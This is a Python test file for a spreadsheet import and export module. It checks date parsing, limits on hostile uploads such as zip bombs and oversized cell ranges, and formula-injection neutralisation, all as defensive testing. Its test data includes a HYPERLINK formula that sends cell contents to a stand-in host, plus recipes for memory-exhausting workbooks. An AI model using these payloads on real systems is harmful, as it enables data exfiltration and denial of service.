from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gongjiang.core.sheets import (
    FORMULA_TRIGGERS,
    SheetError,
    SheetLimits,
    Table,
    clean_name,
    clean_text,
    parse_date,
    read_table,
    write_csv,
    write_xlsx,
)


@pytest.mark.parametrize(
    "typed",
    [
        dt.date(2021, 9, 1), dt.datetime(2021, 9, 1, 0, 0), 44440, 44440.0, "44440", "2021-09-01", "2021.09.01",
        "2021/9/1", "2021年9月1日", "20210901", " 2021 - 09 - 01 ", "２０２１．０９．０１",
        "2021-09-01 00:00:00", "2021/9/1 0:00", "2021-09-01T00:00:00",
    ],
)  # fmt: skip
def test_dates_as_clerks_type_them(typed: object) -> None:
    assert parse_date(typed) == dt.date(2021, 9, 1)


def test_a_month_alone_means_its_first_day() -> None:
    assert parse_date("2021.9") == dt.date(2021, 9, 1)
    assert parse_date("2021年9月") == dt.date(2021, 9, 1)


@pytest.mark.parametrize("typed", ["", "明年九月", "2021-13-01", "2021-02-30", 0, 999999, True])
def test_impossible_dates_are_refused_in_chinese(typed: object) -> None:
    with pytest.raises(ValueError, match="日期"):
        parse_date(typed)


@given(st.dates(min_value=dt.date(1950, 1, 1), max_value=dt.date(2100, 12, 31)))
def test_iso_and_excel_serial_round_trip(day: dt.date) -> None:
    assert parse_date(day.isoformat()) == day
    assert parse_date((day - dt.date(1899, 12, 30)).days) == day


def test_names_and_text() -> None:
    assert clean_name(" 张　伟 ") == "张伟"
    assert clean_name("John  Smith") == "John Smith"
    assert clean_text("ＡＢＣ１２３\u00a0") == "ABC123"


# -- uploads bounded before they are read -------------------------------------------------------


def workbook_bytes(cells: dict[str, Any]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """The same xlsx with members rewritten (and some added), as a hostile file would be made."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, change(item.filename, source.read(item)))
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def read(data: bytes, name: str = "名册.xlsx", limits: SheetLimits | None = None) -> Table:
    return read_table(io.BytesIO(data), name, required_any=["身份证号"], limits=limits)


def refused(data: bytes, name: str = "名册.xlsx", limits: SheetLimits | None = None) -> str:
    with pytest.raises(SheetError) as caught:
        read(data, name, limits)
    return str(caught.value)


def test_a_normal_workbook_keeps_its_rows_and_columns_where_excel_shows_them() -> None:
    # A title row, a blank row and a table that starts in column B: row numbers and cell places stay.
    data = workbook_bytes(
        {"B1": "2025级名册", "B3": "姓名", "C3": "身份证号", "B4": "张伟", "C4": "150203", "B6": "李娜"}
    )
    table = read(data)
    assert table.header_row == 3
    assert table.headers == ["", "姓名", "身份证号"]
    assert table.rows == [(4, ["", "张伟", "150203"]), (6, ["", "李娜", ""])]


def test_a_tiny_workbook_with_a_cell_at_xfd1048576_is_refused_not_parsed() -> None:
    # 5 KB on disk; parsed as is, the used range A1:XFD1048576 would need hundreds of gigabytes.
    data = workbook_bytes({"A1": "身份证号", "XFD1048576": "x"})
    assert len(data) < 10_000
    message = refused(data)
    assert "16384 列" in message and "请删除多余的列" in message


def test_a_cell_reference_hidden_behind_unusual_whitespace_is_still_found() -> None:
    data = workbook_bytes({"A1": "身份证号", "XFD1048576": "x"})
    hidden = rezip(data, lambda name, body: body.replace(b' r="XFD1048576"', b'\n\tr="XFD1048576"'))
    assert b"\n\tr=" in zipfile.ZipFile(io.BytesIO(hidden)).read("xl/worksheets/sheet1.xml")
    assert "16384 列" in refused(hidden)


def test_a_declared_dimension_past_the_limits_is_refused() -> None:
    data = workbook_bytes({"A1": "身份证号", "A2": "1"})
    lying = rezip(data, lambda name, body: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:Z900000"', body))
    assert "文件超过 200000 行" in refused(lying)


def test_rows_far_down_count_as_rows() -> None:
    assert "文件超过 200000 行" in refused(workbook_bytes({"A1": "身份证号", "A1048576": "x"}))


def ods_bytes(rows_repeated: int, columns_repeated: int) -> bytes:
    """An OpenDocument sheet: a header row, then one row of "x" repeated as often as asked."""
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        f' xmlns:table="{table}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S">'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>身份证号</text:p>'
        f'</table:table-cell></table:table-row><table:table-row table:number-rows-repeated="{rows_repeated}">'
        f'<table:table-cell table:number-columns-repeated="{columns_repeated}" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
        "</office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest'
            ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry'
            ' manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )
        archive.writestr("content.xml", content)
    return out.getvalue()


def test_an_ods_whose_repeated_cells_fill_the_sheet_takes_only_the_child_down() -> None:
    # 80 million cells from a 1 KB file, under calamine's own limit of 100 million: read in this
    # process it would take gigabytes; the child hits its memory limit and the clerk is told.
    assert read(ods_bytes(2, 3), "名册.ods").rows == [(2, ["x", "x", "x"]), (3, ["x", "x", "x"])]
    limits = SheetLimits.configured(memory_bytes=1 << 30)
    assert "超出了内存或时间限制" in refused(ods_bytes(5_000, 16_000), "名册.ods", limits)


def test_a_zip_bomb_is_refused_from_its_directory() -> None:
    data = rezip(workbook_bytes({"A1": "身份证号"}), lambda name, body: body, {"xl/media/image1.bin": bytes(64 << 20)})
    assert len(data) < 1 << 20  # 64 MB of zeros in well under 1 MB
    assert "解压后的内容异常庞大" in refused(data)


def test_a_file_over_the_size_limit_is_refused_while_it_is_copied(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES = 1 << 20
    text = "身份证号\n" + "150203200805041011\n" * 100_000
    message = refused(text.encode(), "名册.csv")
    assert "文件过大" in message and "最多 1 MB" in message


def test_a_csv_with_more_rows_than_allowed_stops_at_the_limit() -> None:
    text = "身份证号,姓名\n" + "150203200805041011,张伟\n" * 5_000
    limits = SheetLimits.configured(rows=1_000)
    assert "文件超过 1000 行" in refused(text.encode(), "名册.csv", limits)
    assert len(read(text.encode(), "名册.csv").rows) == 5_000


def test_a_csv_with_too_many_columns_is_refused() -> None:
    assert "列，超过上限 256 列" in refused(("身份证号" + "," * 5_000 + "\n").encode(), "名册.csv")


@pytest.mark.parametrize(
    "data",
    [workbook_bytes({"A1": "身份证号", "A2": "1"})[:3000], b"PK\x03\x04" + bytes(range(256)) * 40, b"not a workbook"],
)
def test_truncated_or_garbage_workbooks_get_the_clerks_message(data: bytes) -> None:
    assert "不是有效的 Excel 工作簿" in refused(data)


def test_a_child_that_runs_out_of_time_is_killed_and_the_caller_told() -> None:
    limits = SheetLimits.configured(seconds=0.01)
    assert "超出了内存或时间限制" in refused(workbook_bytes({"A1": "身份证号"}), limits=limits)


def test_a_parser_that_dies_on_a_hostile_file_takes_only_the_child_with_it() -> None:
    # With the cell checks switched off, calamine meets the XFD1048576 file as before the fix:
    # it tries to allocate the whole range, the child's memory limit stops it, this process lives.
    limits = SheetLimits.configured(columns=1 << 20, cells=1 << 60, rows=1 << 30, memory_bytes=1 << 30)
    message = refused(workbook_bytes({"A1": "身份证号", "XFD1048576": "x"}), limits=limits)
    assert "超出了内存或时间限制" in message
    assert read(workbook_bytes({"A1": "身份证号", "A2": "150203"})).rows == [(2, ["150203"])]


# -- exports neutralise formulas -------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://x.example/?"&B2, "点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_written_xlsx_holds_no_formula_and_reads_back_the_same(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    rows = [["身份证号", value, -3, 2.5] for value in DANGEROUS]
    write_xlsx(["姓名", "备注", "差值", "比例"], rows, target, title="=标题")
    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in cells if cell.column == 3][2:] == [-3] * len(DANGEROUS)
    table = read_table(target.open("rb"), target.name, required_any=["姓名"])
    assert [clean_text(cells[1]) for _number, cells in table.rows] == [clean_text(v) for v in DANGEROUS]


def test_written_csv_cells_never_start_a_formula() -> None:
    buffer = io.StringIO()
    write_csv(["=表头", "数"], [[value, -3] for value in DANGEROUS], buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    texts = [cell for row in rows for cell in row if cell != "-3"]
    assert not [cell for cell in texts if cell.startswith(FORMULA_TRIGGERS)]
    assert [clean_text(row[0]) for row in rows[1:]] == [clean_text(v) for v in DANGEROUS]


def test_only_the_exact_neutralising_prefix_is_taken_off() -> None:
    assert clean_text("'=1") == "=1"
    assert clean_text("'张伟") == "'张伟"
    assert clean_text("''=1") == "''=1"
